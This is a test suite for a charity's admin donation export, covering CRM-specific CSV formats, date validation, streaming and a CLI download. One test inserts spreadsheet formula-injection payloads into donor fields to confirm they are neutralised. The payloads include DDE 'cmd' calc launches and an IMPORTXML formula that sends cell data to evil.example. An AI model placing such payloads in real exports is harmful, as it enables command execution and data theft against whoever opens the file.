import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { DonationSubmissionInput } from '../../shared/donation';
import { type Database, type DatabaseHandle, drizzleOver } from '../db/client';
import { donations, receipts } from '../db/schema';
import { markDonationDisputed, markDonationRefunded } from '../ledger/intent-ledger';
import { createPendingDonation, markDonationSucceeded, type PendingDonation } from '../ledger/repository';
import { INVALID_INPUT_MESSAGE } from '../http/errors';
import { runAdminCommand } from '../testing/admin-command';
import { PENDING_TEST_DONATION } from '../testing/pending-donation';
import { createTestApp, type TestApp, validSubmission } from '../testing/test-app';
import { ADMIN_UNAUTHORIZED_MESSAGE } from '../http/operator-auth';
import { formatCentsAsDollars, splitDonorName } from './export-formats';
import {
  EXPORT_DATE_MESSAGE,
  EXPORT_FORMAT_MESSAGE,
  EXPORT_FORMATS,
  EXPORT_RANGE_LENGTH_MESSAGE,
  EXPORT_RANGE_ORDER_MESSAGE,
  type ExportFormat,
} from './export-request';
import { EXPORT_BATCH_SIZE, readExportRows } from './export-rows';
import { EXPORT_CONTENT_TYPE } from './export-routes';
import { ADMIN_DONATIONS_EXPORT_PATH } from './paths';

/**
 * The donation export (issue #14, "Staff actions", Export; decisions 0060 and 0061) through the real app and database: each
 * format's header row against fixed expected files, formula cells neutralised, UTF-8 names, ISO dates, dollars with
 * two decimals, inclusive UTC days, anonymity and recurring flags, kept gifts only in CRM files, 400s, streaming in
 * batches, and `npm run admin -- export` against a listening server.
 */

const ADMIN_TOKEN = 'export-test-token-0123456789-abcdefghij';
const AUTH = { authorization: `Bearer ${ADMIN_TOKEN}` };
const FIXTURES = new URL('./fixtures/', import.meta.url);

/** Every SQL statement the app's database client was sent, in order (a proxy of the driver's client, as faulty-database.ts). */
const statements: string[] = [];
/** True for the text of a query that reads a batch of an export (receipts joined to donations, with a LIMIT). */
const isExportBatch = (text: string) => /from "receipts"/i.test(text) && /\blimit\b/i.test(text);
/** The statements among {@link statements} that read a batch of an export. */
const exportBatchQueries = () => statements.filter(isExportBatch);
/** When set, the export batch queries from this one on (counted in {@link statements}) fail: a database gone mid-export. */
let failExportBatchesFrom: number | undefined;

/**
 * A Drizzle database over a proxy of `handle`'s client that writes the text of each `query` call into
 * {@link statements}, and fails the export's batches from {@link failExportBatchesFrom} on.
 */
function loggedDatabase(handle: DatabaseHandle): Database {
  const client = new Proxy(handle.client, {
    get(target, property) {
      const value: unknown = Reflect.get(target, property, target);
      if (typeof value !== 'function') return value;
      // NOTE: bound to the real pool: its methods use private state a proxy cannot reach.
      const method = (value as (...args: unknown[]) => unknown).bind(target);
      if (property !== 'query') return method;
      return (...args: unknown[]) => {
        const [query] = args;
        const text = typeof query === 'string' ? query : String((query as { text?: unknown }).text);
        statements.push(text);
        if (failExportBatchesFrom !== undefined && isExportBatch(text) && exportBatchQueries().length >= failExportBatchesFrom) {
          return Promise.reject(Object.assign(new Error('Connection terminated unexpectedly (injected fault)'), { code: 'ECONNRESET' }));
        }
        return method(...args);
      };
    },
  });
  return drizzleOver(client);
}

let t: TestApp;
/** The app's database (statements logged), for reading an export's rows straight. */
let appDb: Database;
/** Where the app listens (`http://127.0.0.1:<port>`), for fetch and `npm run admin`. */
let url: string;
beforeAll(async () => {
  t = await createTestApp({ env: { ADMIN_TOKEN }, database: (handle) => (appDb = loggedDatabase(handle)) });
  url = await t.app.listen({ host: '127.0.0.1', port: 0 });
});
afterAll(async () => {
  await t?.close();
});
beforeEach(async () => {
  await t.reset();
});

/** GET the export with `query` (and the admin token unless `headers` replace it). */
const getExport = (query: Record<string, string>, headers: Record<string, string> = AUTH) =>
  t.app.inject({ method: 'GET', url: `${ADMIN_DONATIONS_EXPORT_PATH}?${new URLSearchParams(query)}`, headers });

/** The fixed expected header row of `format` (with its CRLF), as each CRM's import tool names the columns. */
const expectedHeader = (format: ExportFormat) => readFile(new URL(`${format}-header.csv`, FIXTURES), 'utf8');

/**
 * Reads RFC 4180 CSV (quoted fields, doubled quotes, CRLF record ends, the last one included) into rows of cells, and
 * fails on a lone LF or CR outside quotes, where a spreadsheet or an importer would end the row.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && char === '"') {
      quoted = false;
    } else if (quoted) {
      cell += char;
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' || char === '\n') {
      // NOTE: a spreadsheet or an importer ends a row at any line break outside quotes: this file has only CRLFs there.
      expect(text.slice(i, i + 2), `a line break outside quotes in record ${rows.length + 1}`).toBe('\r\n');
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += char;
    }
  }
  expect({ row, cell }, 'the file ends with a CRLF').toEqual({ row: [], cell: '' });
  return rows;
}

/** The records of a CSV export, each a map from its header to its cell. */
function records(csv: string): Record<string, string>[] {
  const [header = [], ...rows] = parseCsv(csv);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])));
}

/** Moves a donation's receipt to `instant` (its year and number too), as if the gift had been made then. */
async function issuedAt(donationId: string, instant: string): Promise<void> {
  const year = new Date(instant).getUTCFullYear();
  await t.db
    .update(receipts)
    .set({ year, issuedAt: new Date(instant), number: sql`${String(year)} || substr(${receipts.number}, 5)` })
    .where(eq(receipts.donationId, donationId));
}

/** A gift made through the real API (POST /api/process-donation, test gateway) at `instant`; resolves with its donation id. */
async function give(instant: string, overrides: Partial<DonationSubmissionInput> = {}): Promise<string> {
  const answer = await t.postDonation(validSubmission(overrides));
  expect(answer.statusCode, answer.body).toBe(200);
  const { transactionId } = (answer.json() as { data: { transactionId: string } }).data;
  const [donation] = await t.db.select({ id: donations.id }).from(donations).where(eq(donations.gatewayTransactionId, transactionId));
  if (!donation) throw new Error('no donation');
  await issuedAt(donation.id, instant);
  return donation.id;
}

/**
 * A succeeded gift written straight to the database (createPendingDonation, markDonationSucceeded: the repository's own
 * writes) at `instant`: for what the donation form refuses (a name starting with a tab, a 1-cent amount), as rows
 * imported or written by a later feature could hold. Resolves with its id and transaction id.
 */
async function storedGift(instant: string, fields: Partial<PendingDonation> = {}): Promise<{ id: string; transactionId: string }> {
  const id = await createPendingDonation(t.db, { ...PENDING_TEST_DONATION, ...fields });
  const transactionId = `ch_test_export_${id.replaceAll('-', '')}`;
  await markDonationSucceeded(t.db, id, { transactionId, cardBrand: 'visa', last4: '4242', isTestPayment: true }, { statusCode: 200, body: {} });
  await issuedAt(id, instant);
  return { id, transactionId };
}

const MARCH_2025 = { from: '2025-03-01', to: '2025-03-31' };

describe('GET /api/admin/donations.csv', () => {
  it.each(EXPORT_FORMATS)('%s: the header row its import tool expects (the fixed expected file), as a UTF-8 CSV attachment', async (format) => {
    const answer = await getExport({ ...MARCH_2025, format });
    expect(answer.statusCode).toBe(200);
    expect(answer.body).toBe(await expectedHeader(format));
    expect(answer.headers['content-type']).toBe(EXPORT_CONTENT_TYPE);
    expect(answer.headers['content-disposition']).toBe(`attachment; filename="donations-${format}-2025-03-01-to-2025-03-31.csv"`);
    expect(answer.headers['cache-control']).toBe('no-store');
  });

  it('lists every receipted gift of the days asked (UTC, both ends included) in receipt order: ISO dates, dollars with two decimals, UTF-8 names, flags, refunds', async () => {
    await give('2025-02-28T23:59:59.999Z', { donorName: 'Before Range' });
    const first = await give('2025-03-01T00:00:00.000Z', {
      donorName: 'José  María Núñez',
      donorEmail: 'jose@example.org',
      donorPhone: '+1 (555) 010-0100',
      donorAddress: { street: '1 Rue de la Paix, Apt "B"', city: 'Montréal', state: 'QC', zipCode: 'H2X 1Y4', country: 'Canada' },
      message: 'Pour le récif 🌊\nmerci',
    });
    const monthly = await give('2025-03-15T12:00:00.000Z', { donorName: '李小龍', donorEmail: 'li@example.org', frequency: 'monthly', amount: 30, isAnonymous: true, cause: 'marine-protected-areas' });
    const cent = await storedGift('2025-03-20T08:00:00.000Z', { donorName: 'Zoë 👩🏽‍🔬 Ångström', amountCents: 1 });
    const partly = await storedGift('2025-03-21T08:00:00.000Z', { donorName: 'Partly Refunded', amountCents: 10_000 });
    await t.db.update(donations).set({ refundedCents: 2_550 }).where(eq(donations.id, partly.id));
    const refunded = await storedGift('2025-03-22T08:00:00.000Z', { donorName: 'Wholly Refunded', amountCents: 4_000 });
    await markDonationRefunded(t.db, refunded.id, refunded.transactionId);
    const disputed = await storedGift('2025-03-23T08:00:00.000Z', { donorName: 'Card Disputed', amountCents: 5_000 });
    await markDonationDisputed(t.db, disputed.id, disputed.transactionId, 'needs_response');
    const last = await give('2025-03-31T23:59:59.999Z', { donorName: 'Last Minute', amount: 2_500 });
    await give('2025-04-01T00:00:00.000Z', { donorName: 'After Range' });

    const standard = await getExport({ ...MARCH_2025, format: 'standard' });
    expect(standard.statusCode).toBe(200);
    const rows = records(standard.body);
    expect(rows.map((row) => row.donation_id)).toEqual([first, monthly, cent.id, partly.id, refunded.id, disputed.id, last]);
    const numbers = rows.map((row) => row.receipt_number);
    expect(numbers).toEqual([...numbers].sort());
    expect(rows.map((row) => row.date)).toEqual(['2025-03-01', '2025-03-15', '2025-03-20', '2025-03-21', '2025-03-22', '2025-03-23', '2025-03-31']);
    expect(rows.map((row) => [row.status, row.amount, row.refunded_amount])).toEqual([
      ['succeeded', '25.00', '0.00'],
      ['succeeded', '30.00', '0.00'],
      ['succeeded', '0.01', '0.00'],
      ['succeeded', '100.00', '25.50'],
      ['refunded', '40.00', '40.00'],
      ['disputed', '50.00', '0.00'],
      ['succeeded', '2500.00', '0.00'],
    ]);
    expect(rows[0]).toMatchObject({
      donor_name: 'José  María Núñez',
      first_name: 'José María',
      last_name: 'Núñez',
      email: 'jose@example.org',
      // NOTE: a phone number starting with + is neutralised like any other cell (decision 0061).
      phone: "'+1 (555) 010-0100",
      street: '1 Rue de la Paix, Apt "B"',
      city: 'Montréal',
      zip_code: 'H2X 1Y4',
      country: 'Canada',
      message: 'Pour le récif 🌊\nmerci',
      recurring: 'false',
      anonymous: 'false',
      frequency: 'one-time',
      cause: 'research-science',
      card_brand: 'Visa',
      card_last4: '4242',
      gateway: 'test',
      currency: 'USD',
      test_payment: 'true',
    });
    expect(rows[0]?.transaction_id).toMatch(/^ch_/);
    expect(rows[1]).toMatchObject({ donor_name: '李小龍', first_name: '', last_name: '李小龍', anonymous: 'true', recurring: 'true', frequency: 'monthly' });
    expect(rows[2]).toMatchObject({ first_name: 'Zoë 👩🏽‍🔬', last_name: 'Ångström' });
    expect(Buffer.from(standard.rawPayload).toString('utf8')).toBe(standard.body);

    // A CRM gets the gifts the charity keeps, at the amount kept: not the refunded nor the disputed one.
    const npsp = records((await getExport({ ...MARCH_2025, format: 'npsp' })).body);
    expect(npsp.map((row) => [row.npsp__Contact1_Lastname__c, row.npsp__Donation_Amount__c, row.npsp__Donation_Date__c])).toEqual([
      ['Núñez', '25.00', '2025-03-01'],
      ['李小龍', '30.00', '2025-03-15'],
      ['Ångström', '0.01', '2025-03-20'],
      ['Refunded', '74.50', '2025-03-21'],
      ['Minute', '2500.00', '2025-03-31'],
    ]);
    expect(npsp[1]).toMatchObject({
      npsp__Contact1_Firstname__c: '',
      npsp__Contact1_Personal_Email__c: 'li@example.org',
      npsp__Donation_Donor__c: 'Contact1',
      npsp__Donation_Stage__c: 'Closed Won',
      npsp__Donation_Campaign_Name__c: 'Marine Protected Areas Management',
      npsp__Payment_Check_Reference_Number__c: rows[1]?.receipt_number,
      npsp__Payment_Gateway_Payment_ID__c: rows[1]?.transaction_id,
      Donation_Anonymous__c: 'true',
      Donation_Recurring__c: 'true',
    });
    expect(npsp[0]).toMatchObject({ npsp__Home_City__c: 'Montréal', npsp__Contact1_Home_Phone__c: "'+1 (555) 010-0100", Donation_Anonymous__c: 'false', Donation_Recurring__c: 'false' });

    const bloomerang = records((await getExport({ ...MARCH_2025, format: 'bloomerang' })).body);
    expect(bloomerang.map((row) => [row['Last Name'], row.Amount, row.Date, row['Anonymous?'], row['Recurring?']])).toEqual([
      ['Núñez', '25.00', '2025-03-01', '', ''],
      ['李小龍', '30.00', '2025-03-15', 'Yes', 'Yes'],
      ['Ångström', '0.01', '2025-03-20', '', ''],
      ['Refunded', '74.50', '2025-03-21', '', ''],
      ['Minute', '2500.00', '2025-03-31', '', ''],
    ]);
    expect(bloomerang[0]).toMatchObject({ Fund: 'Research and Science', Method: 'Credit Card', Note: 'Pour le récif 🌊\nmerci', 'Receipt Number': rows[0]?.receipt_number });

    const lgl = records((await getExport({ ...MARCH_2025, format: 'lgl' })).body);
    expect(lgl.map((row) => [row['Last Name'], row['Gift Amount'], row['Gift Date'], row.Anonymous, row.Recurring])).toEqual([
      ['Núñez', '25.00', '2025-03-01', 'No', 'No'],
      ['李小龍', '30.00', '2025-03-15', 'Yes', 'Yes'],
      ['Ångström', '0.01', '2025-03-20', 'No', 'No'],
      ['Refunded', '74.50', '2025-03-21', 'No', 'No'],
      ['Minute', '2500.00', '2025-03-31', 'No', 'No'],
    ]);
    expect(lgl[0]).toMatchObject({ 'External Gift ID': rows[0]?.receipt_number, 'Gift Type': 'Gift', Fund: 'Research and Science' });

    const civicrm = records((await getExport({ ...MARCH_2025, format: 'civicrm' })).body);
    expect(civicrm.map((row) => [row['Last Name'], row['Total Amount'], row['Contribution Date'], row.Anonymous, row.Recurring])).toEqual([
      ['Núñez', '25.00', '2025-03-01', 'No', 'No'],
      ['李小龍', '30.00', '2025-03-15', 'Yes', 'Yes'],
      ['Ångström', '0.01', '2025-03-20', 'No', 'No'],
      ['Refunded', '74.50', '2025-03-21', 'No', 'No'],
      ['Minute', '2500.00', '2025-03-31', 'No', 'No'],
    ]);
    expect(civicrm[0]).toMatchObject({
      'Financial Type': 'Donation',
      'Contribution Status': 'Completed',
      'Transaction ID': rows[0]?.transaction_id,
      'Invoice Reference': rows[0]?.receipt_number,
      'State/Province': 'QC',
    });

    // One day, both ends the same: the first of March only.
    expect(records((await getExport({ from: '2025-03-01', to: '2025-03-01', format: 'standard' })).body).map((row) => row.donation_id)).toEqual([first]);
  });

  it('neutralises every cell that starts with = + - @ tab or CR (a quote first), from the API or stored, phone numbers included', async () => {
    const payloads = ['=HYPERLINK("http://evil.example","Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
    for (const [i, payload] of payloads.entries()) {
      await give(`2025-03-0${i + 1}T10:00:00Z`, { donorName: `${payload} x`, message: payload, donorPhone: '+44 20 7946 0958' });
    }
    await storedGift('2025-03-10T10:00:00Z', { donorName: '\t=1+1 Tab', message: '\t=1+1', address: { ...PENDING_TEST_DONATION.address, city: '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")' } });
    await storedGift('2025-03-11T10:00:00Z', { donorName: '\r=1+1 Return', message: '\r=1+1', address: { ...PENDING_TEST_DONATION.address, street: '－1+1 full-width minus' } });

    for (const format of EXPORT_FORMATS) {
      const answer = await getExport({ ...MARCH_2025, format });
      const rows = records(answer.body);
      expect(rows, format).toHaveLength(6);
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          expect(cell, `${format} ${column}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        }
      }
    }
    const rows = records((await getExport({ ...MARCH_2025, format: 'standard' })).body);
    expect(rows.map((row) => row.message)).toEqual([...payloads.map((payload) => `'${payload}`), "'\t=1+1", "'\r=1+1"]);
    expect(rows.map((row) => row.donor_name)).toEqual([...payloads.map((payload) => `'${payload} x`), "'\t=1+1 Tab", "'\r=1+1 Return"]);
    // The name is split after trimming its white space, so the first name starts with `=`: neutralised all the same.
    expect(rows.map((row) => row.first_name)).toEqual([...payloads.map((payload) => `'${payload}`), "'=1+1", "'=1+1"]);
    expect(rows.map((row) => row.phone).slice(0, 4)).toEqual(Array(4).fill("'+44 20 7946 0958"));
    expect(rows[4]?.city).toBe('\'=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")');
    expect(rows[5]?.street).toBe("'－1+1 full-width minus");
    const npsp = records((await getExport({ ...MARCH_2025, format: 'npsp' })).body);
    expect(npsp.map((row) => row.npsp__Donation_Description__c)).toEqual(rows.map((row) => row.message));
  });

  it('has no HEAD route, which would read the whole range only to drop it', async () => {
    await give('2025-03-05T10:00:00Z');
    const head = await t.app.inject({ method: 'HEAD', url: `${ADMIN_DONATIONS_EXPORT_PATH}?${new URLSearchParams({ ...MARCH_2025, format: 'standard' })}`, headers: AUTH });
    expect(head.statusCode).toBe(404);
  });

  it('keeps a message of several lines in its cell (quoted), so its next line cannot start a row, nor a formula', async () => {
    const message = "Thank you\n=cmd|' /C calc'!A0\r+1+1";
    await storedGift('2025-03-05T10:00:00Z', { message });
    for (const format of EXPORT_FORMATS) {
      const body = (await getExport({ ...MARCH_2025, format })).body;
      expect(body, format).toContain('"Thank you\n=cmd|\' /C calc\'!A0\r+1+1"');
      expect(parseCsv(body), format).toHaveLength(2);
    }
  });

  it('writes cents as dollars with two decimals, never through floating point, and splits names at the last space', () => {
    expect([2500, 1, 10, 99, 100, 123_456_789, 0, -150].map(formatCentsAsDollars)).toEqual(['25.00', '0.01', '0.10', '0.99', '1.00', '1234567.89', '0.00', '-1.50']);
    expect(splitDonorName('Ana Reef')).toEqual({ firstName: 'Ana', lastName: 'Reef' });
    expect(splitDonorName('  María José   García López ')).toEqual({ firstName: 'María José García', lastName: 'López' });
    expect(splitDonorName('Prince')).toEqual({ firstName: '', lastName: 'Prince' });
    expect(splitDonorName('王\u3000小明')).toEqual({ firstName: '王', lastName: '小明' });
  });

  it('answers 400 with fieldErrors for a missing or malformed date or format, an unknown parameter, a reversed or too long range; 401 without the token', async () => {
    await give('2025-03-05T10:00:00Z');
    const cases: [Record<string, string>, Record<string, string>][] = [
      [{ to: '2025-03-31', format: 'npsp' }, { from: EXPORT_DATE_MESSAGE }],
      [{ from: '2025-02-30', to: '2025-03-31', format: 'npsp' }, { from: EXPORT_DATE_MESSAGE }],
      [{ from: '2025/03/01', to: '2025-3-31', format: 'npsp' }, { from: EXPORT_DATE_MESSAGE, to: EXPORT_DATE_MESSAGE }],
      [{ from: '2025-03-01', to: '2025-03-31T00:00:00Z', format: 'npsp' }, { to: EXPORT_DATE_MESSAGE }],
      [{ from: '2025-03-01', to: '2025-03-31' }, { format: EXPORT_FORMAT_MESSAGE }],
      [{ ...MARCH_2025, format: 'excel' }, { format: EXPORT_FORMAT_MESSAGE }],
      [{ ...MARCH_2025, format: 'npsp', limit: '10' }, { limit: 'Unknown field' }],
      [{ from: '2025-03-31', to: '2025-03-01', format: 'npsp' }, { to: EXPORT_RANGE_ORDER_MESSAGE }],
      [{ from: '2024-01-01', to: '2025-01-01', format: 'npsp' }, { to: EXPORT_RANGE_LENGTH_MESSAGE }],
    ];
    const before = await t.db.select().from(donations);
    for (const [query, fieldErrors] of cases) {
      const answer = await getExport(query);
      expect(answer.statusCode, JSON.stringify(query)).toBe(400);
      expect(answer.json()).toEqual({ success: false, error: INVALID_INPUT_MESSAGE, code: 'invalid_input', fieldErrors });
      expect(answer.headers['content-disposition']).toBeUndefined();
    }
    // A whole leap year is the longest range: 366 days, both ends included.
    expect((await getExport({ from: '2024-01-01', to: '2024-12-31', format: 'npsp' })).statusCode).toBe(200);
    expect((await getExport({ from: '2028-02-29', to: '2028-02-29', format: 'npsp' })).statusCode).toBe(200);

    for (const headers of [{}, { authorization: 'Bearer wrong-token-wrong-token-wrong-token' }] as Record<string, string>[]) {
      const refused = await getExport({ ...MARCH_2025, format: 'standard' }, headers);
      expect(refused.statusCode).toBe(401);
      expect(refused.json()).toEqual({ success: false, error: ADMIN_UNAUTHORIZED_MESSAGE });
    }
    expect(await t.db.select().from(donations)).toEqual(before);
  });
});

/** `count` succeeded gifts with their receipts, numbered 2024-000001..., issued on 2024-06-01: three SQL statements, not `count` requests. */
async function manyGifts(count: number): Promise<void> {
  await t.db.execute(sql`
    INSERT INTO donations (amount_cents, frequency, cause, donor_name, donor_email, gateway, is_test_payment, card_brand, card_last4)
    SELECT 100 + n, 'one-time', 'education-outreach', 'Donor ' || n, 'donor' || n || '@example.org', 'test', true, 'visa', '4242'
    FROM generate_series(1, ${count}) AS n`);
  await t.db.execute(sql`UPDATE donations SET status = 'succeeded', gateway_transaction_id = 'ch_bulk_' || amount_cents WHERE status = 'pending'`);
  await t.db.execute(sql`
    INSERT INTO receipts (number, donation_id, year, sequence, issued_at)
    SELECT '2024-' || lpad((amount_cents - 100)::text, 6, '0'), id, 2024, amount_cents - 100, '2024-06-01T12:00:00Z' FROM donations`);
}

describe('streaming', () => {
  it('reads a batch only when asked for a row past the last one, none after the reader stops, and neither skips nor repeats a row that changes between batches', async () => {
    await manyGifts(5);
    const june = { receiptDays: { from: '2024-06-01', to: '2024-06-01' }, keptOnly: true };
    statements.length = 0;
    const rows = readExportRows(appDb, june, 2);
    expect(exportBatchQueries()).toHaveLength(0);
    expect((await rows.next()).value).toMatchObject({ receiptNumber: '2024-000001' });
    expect(exportBatchQueries()).toHaveLength(1);
    expect((await rows.next()).value).toMatchObject({ receiptNumber: '2024-000002' });
    expect(exportBatchQueries()).toHaveLength(1);
    // Between two batches the first gift is refunded: it leaves the kept set, and the next batch still starts at the third.
    const [firstGift] = await t.db.select({ id: receipts.donationId }).from(receipts).where(eq(receipts.number, '2024-000001'));
    await markDonationRefunded(t.db, firstGift!.id, 'ch_bulk_101');
    expect((await rows.next()).value).toMatchObject({ receiptNumber: '2024-000003' });
    expect(exportBatchQueries()).toHaveLength(2);
    // The reader stops (a client that hangs up): no more queries.
    await rows.return(undefined);
    expect(await rows.next()).toEqual({ done: true, value: undefined });
    expect(exportBatchQueries()).toHaveLength(2);

    statements.length = 0;
    const numbers: string[] = [];
    for await (const row of readExportRows(appDb, { ...june, keptOnly: false }, 2)) numbers.push(row.receiptNumber);
    expect(numbers).toEqual(['2024-000001', '2024-000002', '2024-000003', '2024-000004', '2024-000005']);
    expect(exportBatchQueries()).toHaveLength(3);
  });

  it(`sends a long export as a stream of chunks, read ${EXPORT_BATCH_SIZE} rows per query, so memory holds one batch whatever the number of rows`, async () => {
    const count = 2 * EXPORT_BATCH_SIZE + 1;
    await manyGifts(count);
    statements.length = 0;
    const response = await fetch(`${url}${ADMIN_DONATIONS_EXPORT_PATH}?from=2024-06-01&to=2024-06-30&format=lgl`, { headers: AUTH });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-length')).toBeNull();
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    const chunks: Uint8Array[] = [];
    const reader = response.body!.getReader();
    for (let read = await reader.read(); !read.done; read = await reader.read()) chunks.push(read.value);
    expect(chunks.length).toBeGreaterThan(1);
    const rows = records(Buffer.concat(chunks).toString('utf8'));
    expect(rows).toHaveLength(count);
    expect(rows.at(-1)).toMatchObject({ 'Last Name': String(count), 'Gift Amount': formatCentsAsDollars(100 + count), 'External Gift ID': `2024-${String(count).padStart(6, '0')}` });
    // 500 + 500 + 1 rows: three queries of LIMIT 500 each, the last one short.
    expect(exportBatchQueries()).toHaveLength(3);
  });
});

describe('npm run admin -- export', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'export-cli-'));
  });
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });
  const env = () => ({ ADMIN_TOKEN, ADMIN_URL: url });
  const MARCH_ARGS = ['--from', MARCH_2025.from, '--to', MARCH_2025.to];

  it('saves the same file as the route, streamed to --out, to the server\'s file name by default, or to stdout with --out -', async () => {
    await give('2025-03-05T10:00:00Z', { donorName: '=Ünïcode 名前 🌊', frequency: 'monthly', isAnonymous: true });
    await give('2025-03-06T10:00:00Z', { donorName: 'Ana Reef', amount: 12.34 });
    const expected = (await getExport({ ...MARCH_2025, format: 'npsp' })).body;

    const out = path.join(dir, 'march.csv');
    const saved = await runAdminCommand(['export', ...MARCH_ARGS, '--format', 'npsp', '--out', out], env());
    expect(saved).toMatchObject({ code: 0, stderr: '' });
    expect(saved.stdout).toContain(`Saved the npsp export of 2025-03-01 to 2025-03-31 (UTC days) in ${out}`);
    expect(await readFile(out, 'utf8')).toBe(expected);

    const byName = await runAdminCommand(['export', ...MARCH_ARGS, '--format', 'npsp'], env(), dir);
    expect(byName.code).toBe(0);
    expect(await readFile(path.join(dir, 'donations-npsp-2025-03-01-to-2025-03-31.csv'), 'utf8')).toBe(expected);

    const piped = await runAdminCommand(['export', ...MARCH_ARGS, '--format', 'npsp', '--out', '-'], env());
    expect(piped).toMatchObject({ code: 0, stdout: expected, stderr: '' });
  }, 60_000);

  it('exits 2 without the dates or format, 1 with the server\'s reason for a bad one or a wrong token, and leaves no file', async () => {
    const noFormat = await runAdminCommand(['export', ...MARCH_ARGS], env(), dir);
    expect(noFormat.code).toBe(2);
    expect(noFormat.stderr).toContain('export needs --from <YYYY-MM-DD> --to <YYYY-MM-DD> --format <format>');

    const badFormat = await runAdminCommand(['export', ...MARCH_ARGS, '--format', 'excel'], env(), dir);
    expect(badFormat.code).toBe(1);
    expect(badFormat.stderr).toContain(EXPORT_FORMAT_MESSAGE);

    const reversed = await runAdminCommand(['export', '--from', '2025-03-31', '--to', '2025-03-01', '--format', 'lgl'], env(), dir);
    expect(reversed.code).toBe(1);
    expect(reversed.stderr).toContain(EXPORT_RANGE_ORDER_MESSAGE);

    const wrongToken = await runAdminCommand(['export', ...MARCH_ARGS, '--format', 'lgl'], { ...env(), ADMIN_TOKEN: 'x'.repeat(40) }, dir);
    expect(wrongToken.code).toBe(1);
    expect(wrongToken.stderr).toContain('refused the token');
    expect(await readdir(dir)).toEqual([]);
  }, 60_000);

  it('when the database fails mid-export the reply is cut short, never a complete-looking file: the download breaks and the command removes its partial file', async () => {
    await manyGifts(2 * EXPORT_BATCH_SIZE + 1);
    statements.length = 0;
    failExportBatchesFrom = 2;
    try {
      const response = await fetch(`${url}${ADMIN_DONATIONS_EXPORT_PATH}?from=2024-06-01&to=2024-06-01&format=standard`, { headers: AUTH });
      expect(response.status).toBe(200);
      await expect(response.text()).rejects.toThrow();

      statements.length = 0;
      const out = path.join(dir, 'june.csv');
      const broken = await runAdminCommand(['export', '--from', '2024-06-01', '--to', '2024-06-01', '--format', 'standard', '--out', out], env(), dir);
      expect(broken.code).toBe(1);
      expect(broken.stderr).toContain(`The export broke off`);
      expect(broken.stderr).toContain(`${out} was removed`);
      expect(await readdir(dir)).toEqual([]);
    } finally {
      failExportBatchesFrom = undefined;
    }
  }, 60_000);
});
